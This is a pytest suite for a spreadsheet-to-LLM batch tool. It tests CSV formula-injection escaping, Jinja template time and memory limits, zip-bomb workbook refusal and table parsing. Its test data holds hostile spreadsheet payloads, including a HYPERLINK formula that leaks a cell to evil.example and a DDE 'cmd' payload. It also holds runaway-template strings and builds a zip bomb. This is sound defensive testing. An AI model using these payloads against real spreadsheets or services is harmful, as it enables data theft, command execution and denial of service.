"""Issue 12, items 4-7 and 9: answers land as data on every output, and no workbook, CSV file
or template can make promptbatch spend unbounded time or memory, or crash on a table.

Each test runs the command a user types against the loopback fake LLM server and asserts what
the user gets: the exact file, the exact message, exit code 2 and no request where a refusal
is due."""

from __future__ import annotations

import csv
import io
import re
import time
import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import openpyxl.worksheet.table
import pytest
from click.testing import Result

from promptbatch_sheets import sandbox
from promptbatch_sheets.cells import CUT_MARKER, EXCEL_CELL_LIMIT, fit_cell
from promptbatch_sheets.surfaces import CsvSurface, csvfile, xlsx_patch
from tests.conftest import cli, fake_model, serve_process
from tests.fakes.llm_server import FakeLLMServer
from tests.test_bad_input import CORPUS
from tests.test_run_cli import chat_requests, write_csv


def refused(result: Result, message: str) -> None:
    """Exit 2 with exactly ``message`` after "Error: ", no traceback."""
    assert result.exit_code == 2, result.output
    assert " ".join(result.output.split()) == f"Error: {message}", result.output


def sheet_book(path: Path, rows: list[list[object]], **extra: bytes) -> Path:
    """A one-sheet workbook (sheet 'S') with ``extra`` parts added as they are."""
    wb = openpyxl.Workbook()
    wb.active.title = "S"
    for row in rows:
        wb.active.append(row)
    wb.save(path)
    if extra:
        with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as zf:
            for name, data in extra.items():
                zf.writestr(name, data)
    return path


# --- 4. CSV answers are data --------------------------------------------------------------------

HOSTILE = {
    "a": "=1+1",
    "b": "\t=1+1",
    "c": ' =HYPERLINK("http://evil.example/?"&A1,"click")',
    "d": "@SUM(A1)",
    "e": "-2+3+cmd|' /C calc'!A0",
    "f": "\r=WEBSERVICE(\"http://x\")",
    "g": "-3",
    "h": "  plain text, padded  \n",
    "i": "\n+1+1",
}


def hostile_run(tmp_path: Path, llm: FakeLLMServer, *flags: str) -> bytes:
    llm.config.answer = lambda prompt: HOSTILE[prompt]
    book = write_csv(tmp_path / "b.csv", [["key"], *([k] for k in HOSTILE)])
    out = tmp_path / "out.csv"
    result = cli("run", str(book), "--template", "{{ key }}", "-o", str(out), *flags,
                 *fake_model(llm))
    assert result.exit_code == 0, result.output
    return out.read_bytes()


def test_csv_answers_that_would_open_as_formulas_get_a_quote(
        tmp_path: Path, llm: FakeLLMServer) -> None:
    written = hostile_run(tmp_path, llm)
    assert written == (
        b"key,response\r\n"
        b"a,'=1+1\r\n"
        b"b,'\t=1+1\r\n"  # not stripped into =1+1
        b'c,"\' =HYPERLINK(""http://evil.example/?""&A1,""click"")"\r\n'
        b"d,'@SUM(A1)\r\n"
        b"e,'-2+3+cmd|' /C calc'!A0\r\n"
        b"f,\"'\r=WEBSERVICE(\"\"http://x\"\")\"\r\n"
        b"g,-3\r\n"  # a plain number runs nothing
        b'h,"plain text, padded"\r\n'
        b"i,\"'\n+1+1\"\r\n")
    rows = list(csv.reader(io.StringIO(written.decode(), newline="")))
    assert [r[1] for r in rows[1:]] == [
        "'=1+1", "'\t=1+1", "' " + HOSTILE["c"][1:], "'@SUM(A1)", "'" + HOSTILE["e"],
        "'" + HOSTILE["f"], "-3", "plain text, padded", "'\n+1+1"]


def test_no_csv_escape_writes_answers_as_the_model_sent_them(
        tmp_path: Path, llm: FakeLLMServer) -> None:
    rows = list(csv.reader(io.StringIO(hostile_run(tmp_path, llm, "--no-csv-escape").decode(),
                                       newline="")))
    assert [r[1] for r in rows[1:]] == [
        "=1+1", "\t=1+1", HOSTILE["c"], "@SUM(A1)", HOSTILE["e"], HOSTILE["f"], "-3",
        "plain text, padded", "\n+1+1"]


def test_csv_escape_setting_from_the_environment(tmp_path: Path, llm: FakeLLMServer,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PROMPTBATCH_CSV_ESCAPE", "false")
    assert b"a,=1+1\r\n" in hostile_run(tmp_path, llm)


def test_typed_fields_stay_numbers_and_text_fields_are_escaped(
        tmp_path: Path, llm: FakeLLMServer) -> None:
    llm.config.structured_answer = lambda prompt, schema: {"score": -3, "urgent": False,
                                                           "note": "=1+1"}
    book = write_csv(tmp_path / "b.csv", [["review"], ["bad"]])
    out = tmp_path / "out.csv"
    result = cli("run", str(book), "--template", "{{ review }}", "-o", str(out),
                 "--fields", "score (number), urgent (boolean), note", *fake_model(llm))
    assert result.exit_code == 0, result.output
    assert out.read_bytes() == b"review,score,urgent,note\r\nbad,-3,FALSE,'=1+1\r\n"


def test_xlsx_answers_keep_the_leading_tab_as_text(tmp_path: Path, llm: FakeLLMServer) -> None:
    """Stripping ``\\t=1+1`` would make a formula of it wherever the text is pasted or exported;
    in a workbook the answer is a text cell either way."""
    llm.config.answer = lambda prompt: "\t=1+1 "
    book = sheet_book(tmp_path / "b.xlsx", [["q"], ["x"]])
    assert cli("run", str(book), "--template", "{{ q }}", *fake_model(llm)).exit_code == 0
    cell = openpyxl.load_workbook(tmp_path / "b.promptbatch.xlsx").active["B2"]
    assert (cell.value, cell.data_type) == ("\t=1+1", "s")


# --- 5. cell limits in UTF-16 code units ---------------------------------------------------------


def test_an_answer_of_emoji_is_cut_to_what_an_excel_cell_holds(
        tmp_path: Path, llm: FakeLLMServer) -> None:
    llm.config.answer = lambda prompt: "\U0001F600" * 20_000  # 40,000 UTF-16 code units
    book = sheet_book(tmp_path / "b.xlsx", [["q"], ["x"]])
    assert cli("run", str(book), "--template", "{{ q }}", *fake_model(llm)).exit_code == 0
    with zipfile.ZipFile(tmp_path / "b.promptbatch.xlsx") as zf:
        xml = zf.read("xl/worksheets/sheet1.xml").decode()
    text = xml.split('<t xml:space="preserve">')[2].split("</t>")[0]
    kept = text.count("\U0001F600")
    assert text == "\U0001F600" * kept + CUT_MARKER.format(n=20_000 - kept)
    assert EXCEL_CELL_LIMIT - 8 <= len(text.encode("utf-16-le")) // 2 <= EXCEL_CELL_LIMIT


def test_serve_cuts_an_answer_to_what_a_google_sheets_cell_holds(llm: FakeLLMServer) -> None:
    llm.config.answer = lambda prompt: "\U0001F600" * 30_000  # 60,000 UTF-16 code units
    with serve_process(llm) as (_, url, token):
        reply = httpx.post(f"{url}/v1/complete", headers={"authorization": f"Bearer {token}"},
                           json={"template": "{{ q }}", "headers": ["q"], "rows": [["x"]]},
                           timeout=60)
    text = reply.json()["answers"][0]
    kept = text.count("\U0001F600")
    assert text == "\U0001F600" * kept + CUT_MARKER.format(n=30_000 - kept)
    assert 50_000 - 8 <= len(text.encode("utf-16-le")) // 2 <= 50_000  # the marker may be shorter


@pytest.mark.parametrize("limit", [32_767, 50_000])
def test_fit_cell_counts_utf16_units_and_never_splits_a_pair(limit: int) -> None:
    for text in ("\U0001F600" * limit, "a" + "\U0001F600" * limit, "é" * (limit + 1)):
        cut = fit_cell(text, limit)
        assert len(cut.encode("utf-16-le")) // 2 <= limit
        assert cut.encode("utf-16-le").decode("utf-16-le") == cut  # no lone half
        kept = cut[:cut.index(" [... cut:")]
        assert text.startswith(kept)
        assert cut.endswith(CUT_MARKER.format(n=len(text) - len(kept)))
    assert fit_cell("\U0001F600" * (limit // 2), limit) == "\U0001F600" * (limit // 2)


def test_a_lone_surrogate_in_an_answer_does_not_break_the_save(tmp_path: Path) -> None:
    """JSON can carry half a surrogate pair (``"\\ud83d"``); neither UTF-8 nor XML can."""
    book = write_csv(tmp_path / "b.csv", [["q"], ["x"]])
    surface = CsvSurface(book)
    surface.read()
    surface.write([(0, 1, "response"), (1, 1, "broken \ud83d emoji")])
    surface.close()
    assert surface.output.read_bytes() == b"q,response\r\nx,broken  emoji\r\n"


# --- 7. CSV files: bounded cells, rows and bytes -------------------------------------------------


def test_a_csv_cell_longer_than_a_cell_may_be_is_refused_by_name(
        tmp_path: Path, llm: FakeLLMServer) -> None:
    book = write_csv(tmp_path / "b.csv", [["q", "text"], ["x", "short"], ["y", "z" * 10**7]])
    result = cli("run", str(book), "--template", "{{ text }}", *fake_model(llm))
    refused(result, "Cell 'b'!B3 (line 3) holds 10,000,000 characters; a cell may hold "
                    "200,000. Shorten it, or split its text over several rows.")
    assert chat_requests(llm) == []
    assert not (tmp_path / "b.promptbatch.csv").exists()


def test_a_long_answer_is_cut_so_the_csv_reads_back(tmp_path: Path, llm: FakeLLMServer) -> None:
    llm.config.answer = lambda prompt: "w" * 300_000
    book = write_csv(tmp_path / "b.csv", [["q"], ["x"]])
    out = tmp_path / "out.csv"
    args = ["run", str(book), "--template", "{{ q }}", "-o", str(out), *fake_model(llm)]
    assert cli(*args).exit_code == 0
    answer = list(csv.reader(out.open(newline="", encoding="utf-8")))[1][1]
    assert len(answer) == csvfile.CELL_LIMIT
    assert answer.endswith(CUT_MARKER.format(n=300_000 - answer.count("w")))
    again = cli("run", str(out), "--template", "{{ q }}", *fake_model(llm))
    assert again.exit_code == 0, again.output
    assert "nothing to send" in again.output and len(chat_requests(llm)) == 1


def test_csv_files_past_the_row_and_size_bounds_are_refused(
        tmp_path: Path, llm: FakeLLMServer, monkeypatch: pytest.MonkeyPatch) -> None:
    book = write_csv(tmp_path / "b.csv", [["q"], *([str(i)] for i in range(20))])
    monkeypatch.setattr(csvfile, "MAX_ROWS", 10)
    refused(cli("run", str(book), "--template", "{{ q }}", *fake_model(llm)),
            f"{book} has more than 10 rows, more than a spreadsheet holds. Split it into "
            "smaller files and run each.")
    monkeypatch.setattr(csvfile, "MAX_CSV_BYTES", 2**20)
    book.write_text("q\n" + "x" * 2**21 + "\n", encoding="utf-8")
    refused(cli("run", str(book), "--template", "{{ q }}", *fake_model(llm)),
            f"{book} is 2 MB; promptbatch reads CSV files up to 1 MB. Split it into smaller "
            "files and run each.")
    assert chat_requests(llm) == []


def test_a_csv_file_that_is_not_utf8_names_the_line(tmp_path: Path) -> None:
    book = tmp_path / "b.csv"
    book.write_bytes(b"q\n" + b"ok\n" * 5000 + b"caf\xe9\n")
    refused(cli("preview", str(book), "--template", "{{ q }}"),
            f"{book} is not UTF-8 text (line 5002). Save it as 'CSV UTF-8' and try again.")


# --- 6. templates are bounded in time and memory ------------------------------------------------

STOPPED = "The template in {origin} was stopped on row 2 ('b'!B2): it {reason}. A template only " \
          "formats a row's values; simplify it."
TOO_BIG = "would build a value of {n} or more characters, more than the 200,000 of the longest " \
          "prompt"


@pytest.mark.parametrize(("template", "reason"), [
    ("{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}x",
     "ran longer than 0.5 s"),
    ("{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(60) }}",
     "ran longer than 0.5 s"),
    ("{{ 2**100000000 }}", "would build a number of more than 3,000 digits"),
    ("{{ 'a' * 10**10 }}", TOO_BIG.format(n="10,000,000,000")),
    ("{{ q|center(10**9) }}", TOO_BIG.format(n="1,000,000,000")),
    ("{{ '%0999999999d'|format(1) }}", TOO_BIG.format(n="200,001")),
    ("{{ '%0999999999d' % 1 }}", TOO_BIG.format(n="200,001")),
    ("{{ '{:>1000000000}'.format(q) }}", TOO_BIG.format(n="200,001")),
    ("{{ q.ljust(10**9) }}", TOO_BIG.format(n="1,000,000,000")),
    ("{{ range(100000)|join('x' * 100000) }}", TOO_BIG.format(n="10,000,581,276")),
    ("{{ ('a' * 100000)|replace('a', q * 100000) }}", TOO_BIG.format(n="20,000,000,000")),
    ("{% set ns = namespace(x=q) %}{% for i in range(64) %}{% set ns.x = ns.x ~ ns.x %}"
     "{% endfor %}{{ ns.x }}", TOO_BIG.format(n="262,144")),
    ("{% set ns = namespace(x=[q]) %}{% for i in range(200) %}{% set ns.x = [ns.x, ns.x] %}"
     "{% endfor %}{{ ns.x == ns.x }}", TOO_BIG.format(n="393,210")),
    ("{% macro m() %}{% for i in range(100000) %}{{ 'x' * 100000 }}{% endfor %}{% endmacro %}"
     "{% set y = m() %}x", "wrote more than 2,000,000 characters (counting what loops, macros "
     "and blocks write and throw away)"),
    ("{{ (1).to_bytes(10**9, 'big') }}", TOO_BIG.format(n="1,000,000,000")),
    ("{{ range(100000)|batch(10**9, 'x')|list }}", TOO_BIG.format(n="1,000,000,000")),
    ("{{ {'a': 1}|tojson(indent=10**9) }}", "asked tojson for an indent of 1,000,000,000; use "
     "at most 8"),
])
def test_a_runaway_template_is_stopped_with_a_message_and_no_call(
        tmp_path: Path, llm: FakeLLMServer, template: str, reason: str) -> None:
    book = write_csv(tmp_path / "b.csv", [["q"], ["ab"], ["cd"]])
    started = time.monotonic()
    result = cli("run", str(book), "--template", template, *fake_model(llm))
    refused(result, STOPPED.format(origin="--template", reason=reason))
    assert time.monotonic() - started < 20  # about 0.5 s; generous for a loaded machine
    assert chat_requests(llm) == []
    assert not (tmp_path / "b.promptbatch.csv").exists()


def test_a_run_of_slow_rows_is_stopped_by_the_run_budget(
        tmp_path: Path, llm: FakeLLMServer, monkeypatch: pytest.MonkeyPatch) -> None:
    """Rows each under the per-row second still add up: a run's renders share a budget (here
    0.3 s instead of 20 s, to keep the test short)."""
    monkeypatch.setattr(sandbox, "RUN_SECONDS", 0.3)
    book = write_csv(tmp_path / "b.csv", [["q"], *([f"row {i}"] for i in range(2000))])
    template = "{% for i in range(20000) %}{% endfor %}{{ q }}"
    result = cli("run", str(book), "--template", template, *fake_model(llm))
    assert result.exit_code == 2, result.output
    message = " ".join(result.output.split())
    assert message.startswith("Error: The template in --template was stopped on row "), message
    assert message.endswith("it took longer than the 0.3 s (and 0.001 s a row) a run's rendering "
                            "may take. A template only formats a row's values; simplify it.")
    assert chat_requests(llm) == []


def test_recursion_without_end_is_stopped(tmp_path: Path, llm: FakeLLMServer) -> None:
    book = write_csv(tmp_path / "b.csv", [["q"], ["ab"]])
    result = cli("run", str(book), "--template", "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
                 *fake_model(llm))
    refused(result, "The template in --template was stopped on row 2 ('b'!B2): it calls itself "
                    "without end (a macro or block that recurses). Simplify it.")
    assert chat_requests(llm) == []


def test_lipsum_is_not_offered_and_real_templates_still_work(
        tmp_path: Path, llm: FakeLLMServer) -> None:
    book = write_csv(tmp_path / "b.csv", [["name", "tags"], ["mug", "a;b;c"]])
    template = ("{% set ns = namespace(n=0) %}{% for t in tags.split(';') %}"
                "{% set ns.n = ns.n + 1 %}{% endfor %}{{ '%-5s|' % name }}"
                "{{ '{:>6.2f}'.format(3.14159) }} "
                "{{ tags.split(';')|map('upper')|join(', ') }} {{ ns.n }} {{ name|center(9) }}"
                "{{ [1, 2]|sum }} {{ 2**10 }} {{ name * 2 }}")
    result = cli("run", str(book), "--template", template, *fake_model(llm))
    assert result.exit_code == 0, result.output
    assert [r["json"]["messages"][-1]["content"] for r in chat_requests(llm)] == [
        "mug  |  3.14 A, B, C 3    mug   3 1024 mugmug"]
    refused(cli("run", str(book), "--template", "{{ lipsum(10**9) }}", *fake_model(llm)),
            "The template in --template uses {{ lipsum }}, but the header row has no such "
            "column. Columns present: 'name' ({{ name }}), 'tags' ({{ tags }}). Rename a header "
            "or fix the template.")


LOOPS = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}x"


def timed(call: Callable[[], httpx.Response]) -> tuple[float, httpx.Response]:
    started = time.monotonic()
    response = call()
    return time.monotonic() - started, response


def health_meanwhile(url: str, headers: dict[str, str], route: str, body: Any,
                     after: float) -> tuple[tuple[float, httpx.Response], tuple[float,
                                                                                httpx.Response]]:
    """POST ``body`` to ``route`` and, ``after`` seconds into it, ask for the health: how long
    each took, and its reply."""
    with ThreadPoolExecutor(2) as pool:
        slow = pool.submit(timed, lambda: httpx.post(f"{url}{route}", json=body,
                                                     headers=headers, timeout=60))
        time.sleep(after)
        health = timed(lambda: httpx.get(f"{url}/v1/health", headers=headers, timeout=60))
        return health, slow.result()


def test_serve_answers_others_while_a_hostile_template_renders_and_still_stops(
        llm: FakeLLMServer) -> None:
    with serve_process(llm) as (proc, url, token):
        headers = {"authorization": f"Bearer {token}"}
        hostile = {"template": LOOPS, "headers": ["q"], "rows": [["a"], ["b"], ["c"]]}
        (health_s, health), (slow_s, reply) = health_meanwhile(url, headers, "/v1/complete",
                                                               hostile, 0.2)
        assert health.json()["ok"] is True and health_s < slow_s
        assert reply.status_code == 400  # as from the command line: the run stops, unpaid
        assert reply.json()["error"] == (
            "The template in the request's template field was stopped on row 2 ('PROMPTBATCH "
            "range'!B2): it ran longer than 0.5 s. A template only formats a row's values; "
            "simplify it.")
        assert chat_requests(llm) == []

        with ThreadPoolExecutor(1) as pool:
            pool.submit(httpx.post, f"{url}/v1/complete", json=hostile, headers=headers,
                        timeout=60)
            time.sleep(0.2)
            proc.terminate()
            assert proc.wait(20) is not None  # the render ends within half a second, so it stops


def test_serve_answers_others_while_a_chained_column_renders_a_hostile_template(
        llm: FakeLLMServer) -> None:
    """A later column's prompts are rendered once the answers they use are back, in the
    middle of a run: off the event loop too, so four hostile columns (half a second of
    rendering each) stall no other request."""
    hostile = LOOPS.replace("x", "{{ summary }}")
    grid = [["Templates", "", "Summarize {{ feedback }}", hostile, hostile, hostile, hostile],
            ["Customer", "Feedback", "summary", "a", "b", "c", "d"]]
    body = {"sheet": "Feedback", "grid": grid, "row_numbers": [3], "wait_seconds": 60,
            "rows": [["Ana", "logs me out", "", "", "", "", ""]]}
    with serve_process(llm) as (_, url, token):
        headers = {"authorization": f"Bearer {token}"}
        (health_s, health), (slow_s, reply) = health_meanwhile(url, headers, "/v1/run", body,
                                                               0.3)
    assert health.json()["ok"] is True
    assert slow_s >= 2.0, "four renders of half a second each"
    assert health_s < 1.0, "the health check did not wait for the renders"
    cells = {(r, c): v for r, c, v in reply.json()["cells"]}
    assert cells[3, 2] == "Answer: Summarize logs me out"
    assert cells[3, 3] == (
        "#ERROR: The template in 'Feedback'!D1 was stopped on row 4 ('Feedback'!D4): it ran "
        "longer than 0.5 s. A template only formats a row's values; simplify it.")
    assert chat_requests(llm) == [chat_requests(llm)[0]], "only the summary was asked"


# --- 7. workbooks: zip bombs are refused before anything is inflated ---------------------------


def with_sheet_padding(path: Path, spaces: int) -> Path:
    """``path`` with its sheet XML inflated by ``spaces`` blanks: valid XML, a tiny file."""
    source = path.read_bytes()
    with zipfile.ZipFile(io.BytesIO(source)) as src, zipfile.ZipFile(path, "w") as out:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<sheetData>", b"<sheetData>" + b" " * spaces, 1)
            out.writestr(info, data, zipfile.ZIP_DEFLATED, 9)
    return path


def test_a_zip_bomb_workbook_is_refused_before_any_call(tmp_path: Path,
                                                        llm: FakeLLMServer) -> None:
    book = with_sheet_padding(sheet_book(tmp_path / "bomb.xlsx", [["q"], ["a"], ["b"]]),
                              30 * 2**20)
    assert book.stat().st_size < 2**17
    result = cli("run", str(book), "--template", "{{ q }}", *fake_model(llm))
    refused(result, f"{book} is not a plausible workbook: its part xl/worksheets/sheet1.xml "
                    "inflates 30 MB from 30 KB (a zip bomb?). Open it in Excel and save it "
                    "again if you trust it.")
    assert chat_requests(llm) == []


def test_a_workbook_that_would_inflate_past_the_limit_is_refused(
        tmp_path: Path, llm: FakeLLMServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_patch, "MAX_UNPACKED", 2**20)
    book = sheet_book(tmp_path / "b.xlsx", [["q"], ["a"]], **{"xl/media/big.bin": b"x" * 2**21})
    refused(cli("run", str(book), "--template", "{{ q }}", *fake_model(llm)),
            f"{book} would inflate to 2 MB; promptbatch opens workbooks of up to 1 MB unpacked. "
            "If it is really that big, save its table as .csv and run that.")
    assert chat_requests(llm) == []


def test_a_part_that_inflates_past_its_declared_size_is_cut_there(
        tmp_path: Path, llm: FakeLLMServer) -> None:
    """The size check trusts the zip's directory; zipfile itself stops inflating at the
    declared size, and the part then fails its checksum: a lie costs nothing."""
    book = with_sheet_padding(sheet_book(tmp_path / "b.xlsx", [["q"], ["a"]]), 2**20)
    data = bytearray(book.read_bytes())
    with zipfile.ZipFile(book) as zf:
        info = zf.getinfo("xl/worksheets/sheet1.xml")
    central = data.rindex(info.filename.encode()) - 46  # the name ends the central entry
    for at in (info.header_offset + 22, central + 24):  # the local and the central size
        data[at:at + 4] = (4096).to_bytes(4, "little")
    book.write_bytes(bytes(data))
    refused(cli("run", str(book), "--template", "{{ q }}", *fake_model(llm)),
            f"{book} is not a readable .xlsx workbook (the zip is damaged or it is another kind "
            "of file). Open it in Excel and save it as .xlsx.")
    assert chat_requests(llm) == []


def test_the_corpus_is_within_the_limits() -> None:
    for path in sorted(CORPUS.glob("*.xls[xm]")):
        xlsx_patch.check_package(path)


# --- 9. tables that crashed or were refused for nothing ------------------------------------------


def test_a_table_reaching_below_the_stored_rows_runs(tmp_path: Path, llm: FakeLLMServer) -> None:
    book = tmp_path / "t.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "S"
    ws.append(["q", "note"])
    ws.append(["a", "x"])
    ws.add_table(openpyxl.worksheet.table.Table(displayName="T", ref="A1:B10"))
    wb.save(book)
    result = cli("run", str(book), "--template", "{{ q }}", *fake_model(llm))
    assert result.exit_code == 0, result.output
    ws = openpyxl.load_workbook(tmp_path / "t.promptbatch.xlsx").active
    assert [[c.value for c in row] for row in ws.iter_rows(max_row=3)] == [
        ["q", "note", "response"], ["a", "x", "Answer: a"], [None, None, None]]
    assert ws.tables["T"].ref == "A1:C10"


def test_an_empty_table_says_it_has_no_rows(tmp_path: Path, llm: FakeLLMServer) -> None:
    book = tmp_path / "t.xlsx"
    wb = openpyxl.Workbook()
    wb.active.title = "S"
    wb.active.append(["q", "note"])
    wb.active.add_table(openpyxl.worksheet.table.Table(displayName="T", ref="A1:B1"))
    wb.save(book)
    result = cli("run", str(book), "--template", "{{ q }}", *fake_model(llm))
    assert result.exit_code == 2, result.output
    assert " ".join(result.output.split()) == (
        "Error: Sheet 'S' has a header row ('S'!A1) but no data rows below it: there is "
        "nothing to send. Add rows under the headers.")
    assert chat_requests(llm) == []


def test_a_strict_open_xml_workbook_is_named_as_such(tmp_path: Path, llm: FakeLLMServer) -> None:
    book = CORPUS / "sheetjs__sheet_visibility_strict.xlsx"
    refused(cli("run", str(book), "--template", "{{ q }}", *fake_model(llm)),
            f"{book} is saved as Strict Open XML, which promptbatch cannot read (its reader, "
            "openpyxl, knows only the usual .xlsx: it would find no sheet). In Excel use File "
            "> Save As > Excel Workbook (.xlsx), and run that copy.")
    assert chat_requests(llm) == []


def test_a_merged_title_above_the_table_is_not_its_header(
        tmp_path: Path, llm: FakeLLMServer) -> None:
    book = tmp_path / "t.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "S"
    ws.append(["Sales report"])
    ws.merge_cells("A1:D1")
    ws.append(["product", "region", "units", "price"])
    ws.append(["mug", "north", 3, 4.5])
    wb.save(book)
    result = cli("run", str(book), "--template", "{{ units }} {{ product }} at {{ price }}",
                 *fake_model(llm))
    assert result.exit_code == 0, result.output
    ws = openpyxl.load_workbook(tmp_path / "t.promptbatch.xlsx").active
    assert (ws["A1"].value, ws["E1"].value, ws["E2"].value, ws["E3"].value) == (
        "Sales report", None, "response", "Answer: 3 mug at 4.5")


def test_data_under_a_merged_header_names_the_merge(tmp_path: Path, llm: FakeLLMServer) -> None:
    book = tmp_path / "t.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "S"
    ws.append(["product", "price", None])
    ws.merge_cells("B1:C1")
    ws.append(["mug", 4, 5])
    wb.save(book)
    refused(cli("run", str(book), "--template", "{{ product }}", *fake_model(llm)),
            "Column C has data ('S'!C2) under the merged header 'S'!B1:C1, which names only "
            "column B. Unmerge it (Home > Merge & Center) and give each column its own header.")
    assert chat_requests(llm) == []


@pytest.mark.parametrize("size", [97, 4096])
@pytest.mark.parametrize("path", sorted(CORPUS.glob("*.xls[xm]"))[::4], ids=lambda p: p.name)
def test_a_sheet_patched_in_pieces_is_the_sheet_patched_whole(path: Path, size: int) -> None:
    """The patcher reads and writes a sheet in row-aligned pieces; cut small, the pieces must
    give exactly the bytes the whole-sheet patch gives: rows patched in place, rows inserted
    between pieces, rows added after the last."""
    with zipfile.ZipFile(path) as zf:
        part = next(n for n in zf.namelist() if n.startswith("xl/worksheets/sheet"))
        xml = zf.read(part)
    if b"<!--" in xml or b"<![CDATA[" in xml:
        return
    rows = [int(r) for r in re.findall(rb'<(?:\w+:)?row [^>]*?r="(\d+)"', xml)] or [1]
    wanted = {rows[0] - 1, rows[len(rows) // 2] - 1, rows[-1] - 1, rows[-1] + 5, 1_000}
    wanted |= {r for r in range(max(rows) + 2) if r % 7 == 3}  # between existing rows too
    answers = {(r, 60): f"answer {r}" for r in wanted}
    pieces = xlsx_patch.row_pieces(io.BytesIO(xml), size)
    assert b"".join(xlsx_patch._patched(pieces, answers, "S")) == \
        xlsx_patch.patch_sheet_xml(xml, answers, "S")
